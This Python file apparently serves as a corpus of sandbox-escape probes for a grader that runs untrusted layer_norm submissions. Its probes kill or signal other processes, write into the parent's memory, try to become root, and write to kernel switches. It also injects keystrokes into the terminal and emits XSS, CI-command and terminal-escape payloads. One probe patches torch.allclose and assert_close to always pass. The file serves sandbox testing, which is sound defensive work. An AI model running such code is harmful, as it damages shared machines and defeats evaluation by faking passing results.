"""Attacks that want to harm others: the grader, the zygote, other workers, installed packages, the machine."""

from __future__ import annotations

from attacks.corpus import Attack, at_import, instead, tries

_POISON = r"""
poison = '\ud800\udfff\x00\x1b[2J\x1b]0;kit_attack\x07\r\u202e\u2028\x85</script><img src=x onerror=alert(1)>=HYPERLINK("x")'
poison += '\n::set-env name=PATH::/tmp\n::add-mask::1\n##vso[task.complete result=Failed]\n::error::1\n]]>&#0;{{7*7}}%s%n'
"""

ATTACKS = [
    Attack(
        "signals_to_all",
        "sends the null signal to everything it can reach, by every call that sends signals",
        tries("""
            import ctypes, os, platform
            libc = ctypes.CDLL(None)
            queue, of_a_thread, to_thread = {'x86_64': (129, 297, 200), 'aarch64': (138, 240, 130)}[platform.machine()]
            room = ctypes.create_string_buffer(128)

            def reached(send):
                found = []
                for pid in range(1, 3000):
                    if pid != os.getpid():
                        try:
                            if send(pid) in (None, 0):
                                found.append(pid)
                        except OSError:
                            pass
                return found[:9]

            attempt('kill', lambda: reached(lambda pid: os.kill(pid, 0)))
            attempt('group', lambda: reached(lambda pid: os.killpg(pid, 0)))
            attempt('tkill', lambda: reached(lambda pid: libc.syscall(to_thread, pid, 0)))
            attempt('tgkill', lambda: reached(lambda pid: libc.tgkill(pid, pid, 0)))
            attempt('queue', lambda: reached(lambda pid: libc.syscall(queue, pid, 0, room)))
            attempt('queue of a thread', lambda: reached(lambda pid: libc.syscall(of_a_thread, pid, pid, 0, room)))
            for pid in [-1, *others()]:
                attempt(pid, lambda: os.kill(pid, 0) is None)
        """),
    ),
    Attack(
        "signals_by_files",
        "has the kernel signal its parent whenever something can be read",
        tries("""
            import ctypes, fcntl, os, struct
            libc = ctypes.CDLL(None)
            for number in range(5):
                attempt((number, 'owner'), lambda: fcntl.fcntl(number, fcntl.F_SETOWN, os.getppid()) == 0)
                attempt((number, 'owner_ex'), lambda: libc.fcntl(number, 15, struct.pack('ii', 1, os.getppid())))
                attempt((number, 'signal'), lambda: fcntl.fcntl(number, fcntl.F_SETSIG, 0) == 0)
                attempt((number, 'ioctl'), lambda: bool(fcntl.ioctl(number, 0x8901, struct.pack('i', os.getppid()))))
        """),
    ),
    Attack(
        "poisons_packages",
        "opens the installed torch, numpy and standard library for writing, and makes files beside them",
        tries("""
            import json, numpy, os, torch
            for path in (torch.__file__, numpy.__file__, torch._C.__file__, os.__file__, json.__file__):
                attempt(path, lambda: os.open(path, os.O_WRONLY | os.O_APPEND))
                attempt((path, 'both'), lambda: open(path, 'r+b'))
                beside = os.path.join(os.path.dirname(path), 'kit_attack_beside')
                attempt(beside, lambda: os.mkdir(beside) or os.rmdir(beside) is None)
                attempt((beside, 'file'), lambda: os.open(beside, os.O_CREAT | os.O_EXCL, 0o600) and (os.remove(beside) is None))
        """),
    ),
    Attack(
        "attributes_of_files",
        "changes mode, owner, times, name and attributes of files, to what they are already",
        tries("""
            import os, torch

            def extended(path):
                os.setxattr(path, 'user.kit_attack', b'x')
                return os.removexattr(path, 'user.kit_attack') is None

            for path in ('@SECRET@', torch.__file__, os.__file__, '/'):
                try:
                    now = os.stat(path)
                except OSError:
                    continue
                attempt((path, 'chmod'), lambda: os.chmod(path, now.st_mode & 0o7777) is None)
                attempt((path, 'chown'), lambda: os.chown(path, now.st_uid, now.st_gid) is None)
                attempt((path, 'utime'), lambda: os.utime(path, ns=(now.st_atime_ns, now.st_mtime_ns)) is None)
                attempt((path, 'rename'), lambda: os.path.isfile(path) and os.rename(path, path) is None)
                attempt((path, 'xattr'), lambda: extended(path))
            descriptor = os.open(torch.__file__, os.O_RDONLY)
            attempt('fchmod', lambda: os.fchmod(descriptor, os.fstat(descriptor).st_mode & 0o7777) is None)
            attempt('fchown', lambda: os.fchown(descriptor, -1, -1) is None)
        """),
    ),
    Attack(
        "locks_on_files",
        "locks files that every worker reads, and asks for leases on them",
        tries("""
            import fcntl, os, torch
            for path in (torch.__file__, os.__file__):
                descriptor = os.open(path, os.O_RDONLY)
                attempt((path, 'flock'), lambda: fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB) is None)
                attempt((path, 'lockf'), lambda: fcntl.lockf(descriptor, fcntl.LOCK_SH | fcntl.LOCK_NB) is None)
                attempt((path, 'lease'), lambda: fcntl.fcntl(descriptor, fcntl.F_SETLEASE, fcntl.F_RDLCK) == 0)
                attempt((path, 'notify'), lambda: fcntl.fcntl(os.open(os.path.dirname(path), os.O_RDONLY), fcntl.F_NOTIFY, 1) == 0)
                os.close(descriptor)
        """),
    ),
    Attack(
        "writes_into_zygote",
        "opens the memory of its parent for writing, and writes there what is there already",
        tries("""
            import ctypes, os, sys
            libc = ctypes.CDLL(None, use_errno=True)
            ours = (ctypes.c_size_t * 2)(id(sys.version) + sys.getsizeof('') - 1, 1)  # its first letter, the same there
            for pid in others()[:12]:
                attempt((pid, 'mem'), lambda: os.open(f'/proc/{pid}/mem', os.O_RDWR))
                for name in ('oom_score_adj', 'comm', 'coredump_filter', 'clear_refs', 'timerslack_ns', 'autogroup', 'uid_map', 'attr/current'):
                    attempt((pid, name), lambda: os.open(f'/proc/{pid}/{name}', os.O_WRONLY))
            attempt('writev', lambda: libc.process_vm_writev(os.getppid(), ours, 1, ours, 1, 0))
            attempt('madvise', lambda: libc.syscall(440, libc.syscall(434, os.getppid(), 0), ours, ctypes.c_size_t(1), 20, 0))
        """),
    ),
    Attack(
        "steals_descriptors",
        "takes open files out of its parent by a descriptor for the process",
        tries("""
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            for pid in others()[:12]:
                process = libc.syscall(434, pid, 0)
                attempt((pid, 'pidfd'), lambda: process)
                if process >= 0:
                    attempt((pid, 'signal'), lambda: libc.syscall(424, process, 0, None, 0))
                    for number in range(12):
                        attempt((pid, number), lambda: libc.syscall(438, process, number, 0))
                    attempt((pid, 'setns'), lambda: libc.setns(process, 0x04000000))
        """),
    ),
    Attack(
        "limits_of_parent",
        "reads and sets the limits of its parent, which all workers after it would inherit",
        tries("""
            import ctypes, os, resource
            libc = ctypes.CDLL(None, use_errno=True)
            for kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_NPROC):
                attempt(kind, lambda: resource.prlimit(os.getppid(), kind))
                attempt((kind, 'set'), lambda: resource.prlimit(os.getppid(), kind, resource.prlimit(os.getppid(), kind)))
            room = (ctypes.c_ulong * 2)()
            attempt('upper half', lambda: libc.syscall({'x86_64': 302, 'aarch64': 261}[os.uname().machine], ctypes.c_long(1 << 32 | os.getppid()), 7, None, room))
        """),
    ),
    Attack(
        "pace_of_parent",
        "sets priority, processors and scheduling of its parent, to what they are",
        tries("""
            import ctypes, os, platform
            libc = ctypes.CDLL(None, use_errno=True)
            pid, io = os.getppid(), {'x86_64': 251, 'aarch64': 30}[platform.machine()]
            attempt('priority', lambda: os.setpriority(os.PRIO_PROCESS, pid, os.getpriority(os.PRIO_PROCESS, pid)) is None)
            attempt('group', lambda: os.getpriority(os.PRIO_PGRP, os.getpgid(pid)))
            attempt('processors', lambda: os.sched_setaffinity(pid, os.sched_getaffinity(pid)) is None)
            attempt('scheduler', lambda: os.sched_setscheduler(pid, os.SCHED_OTHER, os.sched_param(0)) is None)
            attempt('io', lambda: libc.syscall(io, 1, pid, 0))
            attempt('pages', lambda: libc.syscall({'x86_64': 256, 'aarch64': 238}[platform.machine()], pid, 0, None, None))
        """),
    ),
    Attack(
        "kills_parent",
        "kills the process that has made it",
        tries("import os\nattempt('killed', lambda: os.kill(os.getppid(), 9) is None)"),
        hurts=True,
    ),
    Attack(
        "kills_all",
        "kills everything that it may kill",
        tries("import os\nattempt('killed', lambda: os.kill(-1, 9) is None)"),
        hurts=True,
    ),
    Attack(
        "closes_all",
        "closes every descriptor, the channel too",
        instead("import os\nos.closerange(0, 4096)\nreturn x"),
        keeps=False,
    ),
    Attack(
        "swaps_descriptors",
        "puts its output where its answers go, and its answers where its output goes",
        instead("return x", before="import os\nkept = os.dup(3)\nos.dup2(4, 3)\nos.dup2(kept, 4)\nos.dup2(kept, 1)"),
        keeps=False,
    ),
    Attack(
        "shuts_the_channel",
        "shuts its channel for reading, or sets it and its output to other modes",
        tries("""
            import ctypes, fcntl, os, struct
            libc = ctypes.CDLL(None, use_errno=True)
            for number in (3, 4):
                attempt((number, 'size'), lambda: fcntl.fcntl(number, 1031, 4096) > 0)
                attempt((number, 'no time'), lambda: libc.setsockopt(number, 1, 21, struct.pack('qq', 60, 0), 16))
                attempt((number, 'shut'), lambda: libc.shutdown(number, 0))
        """),
    ),
    Attack(
        "poisoned_exception",
        "raises an exception whose name and text are made to break reports and logs",
        instead(
            """
            kind = type('K\\u0131t' + '<b>' * 9, (ValueError,), {'__str__': lambda self: poison, '__repr__': lambda self: poison})
            raise kind(poison)
            """,
            before=_POISON,
        ),
        keeps=False,
    ),
    Attack(
        "poisoned_exception_at_import",
        "raises such an exception when it is imported, from a line with such a text",
        f"{_POISON}\nraise type(poison.replace(chr(0), ''), (Exception,), {{}})(poison)  # \x1b[31m ::set-env name=A::b </script>\n"
        "def layer_norm(x, gamma, beta, eps=1e-5):\n    return x\n",
        keeps=False,
    ),
    Attack(
        "poisoned_result",
        "returns dictionaries and texts that are made to break whoever shows them",
        instead("return {poison: [poison, {poison: poison}], '': float('nan'), '__class__': poison}", before=_POISON),
        keeps=False,
    ),
    Attack(
        "poisoned_output",
        "prints bytes that are no text, terminal commands and orders to build servers",
        at_import(
            _POISON
            + r"""
import os, sys
for number in (1, 2):
    os.write(number, poison.encode('utf-8', 'surrogatepass') + bytes(range(256)))
sys.stdout.buffer.write(b'\xff\xfe\x00::stop-commands::kit_attack\n')
print(poison.encode('utf-8', 'backslashreplace').decode(), file=sys.stderr)
print(poison)
"""
        ),
    ),
    Attack(
        "poisoned_names",
        "gives its module and functions names, texts and signatures that are made to break whoever shows them",
        at_import(_POISON + "\n__doc__ = __name__ = __file__ = poison\nglobals()[poison] = poison\n__all__ = [poison]")
        + "\nlayer_norm.__name__ = layer_norm.__qualname__ = layer_norm.__doc__ = layer_norm.__module__ = poison\n"
        "layer_norm.__annotations__ = {poison: poison}\n",
    ),
    Attack(
        "shared_sysv",
        "leaves shared memory, semaphores and messages of the old kind for a later submission",
        tries("""
            import ctypes
            libc = ctypes.CDLL(None, use_errno=True)
            key = 0x6B69
            for name, make, control in (('memory', lambda: libc.shmget(key, 4096, 0o1600), libc.shmctl),
                                        ('messages', lambda: libc.msgget(key, 0o1600), libc.msgctl),
                                        ('semaphores', lambda: libc.semget(key, 1, 0o1600), lambda n, c, a: libc.semctl(n, 0, c))):
                number = make()
                attempt(name, lambda: number)
                if number >= 0:
                    control(number, 0, None)
        """),
    ),
    Attack(
        "shared_posix",
        "leaves named shared memory, semaphores, queues and pipes for a later submission",
        tries("""
            import ctypes, os
            libc = ctypes.CDLL('librt.so.1', use_errno=True)
            libc.sem_open.restype = ctypes.c_void_p
            unlimited()
            flags = os.O_CREAT | os.O_RDWR
            attempt('memory', lambda: libc.shm_open(b'/kit_attack', flags, 0o600))
            libc.shm_unlink(b'/kit_attack')
            attempt('queue', lambda: libc.mq_open(b'/kit_attack', flags, 0o600, None))
            libc.mq_unlink(b'/kit_attack')
            attempt('semaphore', lambda: libc.sem_open(b'/kit_attack', flags, 0o600, 1))
            libc.sem_unlink(b'/kit_attack')
            attempt('anonymous', lambda: os.memfd_create('kit_attack'))
            for folder in ('/tmp', '/dev/shm', '/var/tmp', '/dev', '/run', '/', '.', '@HOME@'):
                path = f'{folder}/kit_attack_shared'
                for make in (os.mkfifo, os.mkdir, lambda path: os.close(os.open(path, flags)), lambda path: os.mknod(path)):
                    attempt((folder, make.__name__), lambda: make(path) is None)
                    try:
                        (os.rmdir if os.path.isdir(path) else os.remove)(path)
                    except OSError:
                        pass
        """),
    ),
    Attack(
        "becomes_root",
        "becomes root again, or takes capabilities, or another group",
        tries("""
            import ctypes, os, struct
            libc = ctypes.CDLL(None, use_errno=True)
            header, admin = struct.pack('Ii', 0x20080522, 0), struct.pack('6I', 1 << 21, 1 << 21, 0, 0, 0, 0)
            for name in ('setuid', 'seteuid', 'setgid', 'setegid'):
                attempt(name, lambda: getattr(os, name)(0) is None and os.geteuid() == 0)
            attempt('setresuid', lambda: os.setresuid(0, 0, 0) is None)
            attempt('setfsuid', lambda: libc.setfsuid(0) == 0 and libc.setfsuid(-1) == 0)
            attempt('setgroups', lambda: os.setgroups([0]) is None)
            attempt('ambient', lambda: libc.prctl(47, 2, 21, 0, 0))
            attempt('keeps', lambda: libc.prctl(8, 1, 0, 0, 0))
            attempt('securebits', lambda: libc.prctl(28, 0, 0, 0, 0))
            attempt('capset', lambda: libc.capset(header, admin))
        """),
    ),
    Attack(
        "own_namespaces",
        "goes into namespaces of its own, where it is root and may mount, or into those of others",
        tries("""
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            USERS, MOUNTS, NETWORK, NAMES, MESSAGES, CONTROL, FILES = 1 << 28, 1 << 17, 1 << 30, 1 << 26, 1 << 27, 1 << 25, 1 << 10
            for pid in others()[:6]:
                for kind in ('mnt', 'user', 'net', 'pid', 'ipc'):
                    attempt((pid, kind), lambda: os.open(f'/proc/{pid}/ns/{kind}', os.O_RDONLY))
            for kind in (USERS, MOUNTS, NETWORK, NAMES, MESSAGES, CONTROL, USERS | MOUNTS, FILES):
                attempt(hex(kind), lambda: libc.unshare(kind))
            attempt('private', lambda: libc.unshare(MOUNTS) == 0
                    and libc.mount(None, b'/', None, (1 << 14) | (1 << 18), None) == 0
                    and (libc.mount(b'tmpfs', b'/mnt', b'tmpfs', 0, None) == 0 or libc.mount(b'tmpfs', b'/tmp', b'tmpfs', 0, None) == 0))
            attempt('chroot', lambda: os.chroot('/') is None)
        """),
    ),
    Attack(
        "the_whole_machine",
        "asks for what only the machine's owner may do: restart, modules, swap, clock, name, ports",
        tries("""
            import ctypes, errno, os, platform, struct
            libc = ctypes.CDLL(None, use_errno=True)
            init_module, kexec = {'x86_64': (175, 246), 'aarch64': (105, 104)}[platform.machine()]

            def allowed(act):  # wrong on purpose: another error than EPERM tells that it was not the right that was missing
                ctypes.set_errno(0)
                return act() == 0 or ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS, errno.EACCES)

            clock = ctypes.create_string_buffer(struct.pack('i', 0), 256)
            attempt('reboot', lambda: allowed(lambda: libc.syscall({'x86_64': 169, 'aarch64': 142}[platform.machine()], 1, 1, 0, None)))
            attempt('module', lambda: allowed(lambda: libc.syscall(init_module, None, ctypes.c_ulong(0), None)))
            attempt('kexec', lambda: allowed(lambda: libc.syscall(kexec, ctypes.c_ulong(0), ctypes.c_ulong(99), None, ctypes.c_ulong(1 << 15))))
            attempt('swap', lambda: allowed(lambda: libc.swapon(b'/kit_attack_missing', 0)))
            attempt('clock', lambda: libc.adjtimex(clock) >= 0 and libc.adjtimex(
                ctypes.create_string_buffer(struct.pack('i', 4) + clock.raw[4:])) >= 0)
            name = os.uname().nodename.encode()
            attempt('name', lambda: libc.sethostname(name, len(name)))
            attempt('domain', lambda: libc.setdomainname(os.uname().version.encode(), ctypes.c_size_t(1000)) == -1 and ctypes.get_errno() == errno.EINVAL)
            attempt('ports', lambda: platform.machine() == 'x86_64' and libc.iopl(3))
        """),
    ),
    Attack(
        "kernel_switches",
        "opens the kernel's switches for writing: crash handler, caches, sysrq, control groups",
        tries("""
            import glob, os
            paths = ['/proc/sysrq-trigger', '/proc/sys/kernel/core_pattern', '/proc/sys/kernel/modprobe', '/proc/sys/vm/drop_caches',
                     '/proc/sys/kernel/hostname', '/proc/sys/kernel/panic', '/proc/sys/fs/binfmt_misc/register', '/sys/power/state',
                     '/proc/self/oom_score_adj', '/proc/self/comm', '/proc/self/attr/current', '/proc/self/mem', '/dev/random',
                     '/sys/fs/cgroup/cgroup.procs', '/dev/kmsg', '/dev/fuse', '/dev/mapper/control', '/dev/loop-control', '/dev/net/tun']
            paths += glob.glob('/sys/devices/system/cpu/cpu*/online') + glob.glob('/sys/fs/cgroup/*/cgroup.procs')[:3]
            for path in paths:
                attempt(path, lambda: os.open(path, os.O_WRONLY | os.O_NONBLOCK))
        """),
    ),
    Attack(
        "traced_by_parent",
        "makes its parent the debugger of itself, and changes how the kernel runs it",
        tries("""
            import ctypes
            libc = ctypes.CDLL(None, use_errno=True)
            attempt('personality', lambda: libc.personality(ctypes.c_ulong(0x0040000)))
            attempt('traced', lambda: libc.ptrace(0, 0, None, None))
            attempt('any tracer', lambda: libc.prctl(0x59616D61, ctypes.c_ulong(-1), 0, 0, 0))
            attempt('timer slack', lambda: libc.prctl(29, 1, 0, 0, 0))
            attempt('machine checks', lambda: libc.prctl(33, 1, 1, 0, 0))
            attempt('speculation', lambda: libc.prctl(53, 0, 4, 0, 0))
        """),
    ),
    Attack(
        "stacked_filters",
        "puts filters and rules of its own on top, which answer calls in the kernel's stead",
        tries("""
            import ctypes, platform, struct
            libc = ctypes.CDLL(None, use_errno=True)
            seccomp = {'x86_64': 317, 'aarch64': 277}[platform.machine()]
            rules = ctypes.create_string_buffer(struct.pack('HBBI', 6, 0, 0, 0x7FFF0000))  # let everything through
            program = ctypes.create_string_buffer(struct.pack('HxxxxxxQ', 1, ctypes.addressof(rules)))
            attempt('landlock', lambda: libc.syscall(444, ctypes.create_string_buffer(struct.pack('Q', 2)), ctypes.c_size_t(8), 0))
            attempt('no new privileges', lambda: libc.prctl(38, 1, 0, 0, 0))
            attempt('filter', lambda: libc.syscall(seccomp, 1, 0, program))
            attempt('listener', lambda: libc.syscall(seccomp, 1, 8, program))
            attempt('by prctl', lambda: libc.prctl(22, 2, program, 0, 0))
        """),
    ),
    Attack(
        "typed_into_terminal",
        "types into the terminal that the grader was started from",
        tries("""
            import ctypes, fcntl, os, struct
            libc = ctypes.CDLL(None, use_errno=True)
            for number in range(8):
                attempt((number, 'typed'), lambda: libc.ioctl(number, 0x5412, b' '))
                attempt((number, 'typed, upper half'), lambda: libc.ioctl(number, ctypes.c_ulong(1 << 32 | 0x5412), b' '))
                attempt((number, 'pasted'), lambda: libc.ioctl(number, 0x541C, ctypes.create_string_buffer(b'\\x02')))
                attempt((number, 'taken'), lambda: libc.ioctl(number, 0x540E, 0))
                attempt((number, 'settings'), lambda: libc.ioctl(number, 0x5402, ctypes.create_string_buffer(64)) if os.isatty(number) else -1)
            for path in ('/dev/tty', '/dev/pts/0', '/dev/pts/1', '/dev/vcs'):
                attempt(path, lambda: os.open(path, os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK))
        """),
    ),
    Attack(
        "patched_libraries",
        "patches torch, Python and the C library in memory, and looks whether somebody before it has",
        tries("""
            import builtins, ctypes, gc, math, os, platform, random, sys
            import numpy, torch
            import torch.nn.functional
            libc = ctypes.CDLL(None)
            attempt('patched before', lambda: hasattr(torch, 'kit_attack') or hasattr(sys, 'kit_attack') or libc.abs(-5) != 5)
            attempt('seeded before', lambda: torch.initial_seed() == 4242)
            torch.kit_attack = sys.kit_attack = builtins.kit_attack = True
            for place, name in ((torch, 'layer_norm'), (torch.nn.functional, 'layer_norm'), (torch, 'allclose'), (torch, 'isfinite'),
                                (torch.testing, 'assert_close'), (math, 'isclose'), (numpy, 'allclose')):
                setattr(place, name, lambda *_, **__: True)
            torch.manual_seed(4242)
            random.seed(4242)
            gc.disable()
            os.environ['PYTHONPATH'] = '/tmp/kit_attack'
            sys.path.insert(0, '/tmp/kit_attack')
            if platform.machine() == 'x86_64':  # abs() of the C library: returns 0 from now on
                at = ctypes.cast(libc.abs, ctypes.c_void_p).value
                page = ctypes.c_void_p(at & -4096)
                if libc.mprotect(page, ctypes.c_size_t(8192), 7) == 0:
                    ctypes.memmove(at, bytes.fromhex('31c0c3'), 3)
                    libc.mprotect(page, ctypes.c_size_t(8192), 5)
        """),
    ),
    Attack(
        "written_page_cache",
        "writes through a mapping of a library's file, so that all who map it would see it",
        tries("""
            import ctypes, mmap, os, torch
            libc = ctypes.CDLL(None, use_errno=True)
            libc.mmap.restype = ctypes.c_size_t
            failed = ctypes.c_size_t(-1).value
            descriptor = os.open(torch.__file__, os.O_RDONLY)
            at = libc.mmap(None, ctypes.c_size_t(4096), 1, 1, descriptor, ctypes.c_long(0))
            attempt('mapped', lambda: libc.mmap(None, ctypes.c_size_t(4096), 3, 1, descriptor, ctypes.c_long(0)) not in (failed, 2**32 - 1))
            attempt('made writable', lambda: at != failed and libc.mprotect(ctypes.c_size_t(at), ctypes.c_size_t(4096), 3))
            reading, writing = os.pipe()
            attempt('spliced', lambda: os.splice(descriptor, writing, 16, offset_src=0))
            attempt('given', lambda: libc.vmsplice(writing, (ctypes.c_size_t * 2)(id(torch), 16), 1, 0))
        """),
    ),
]
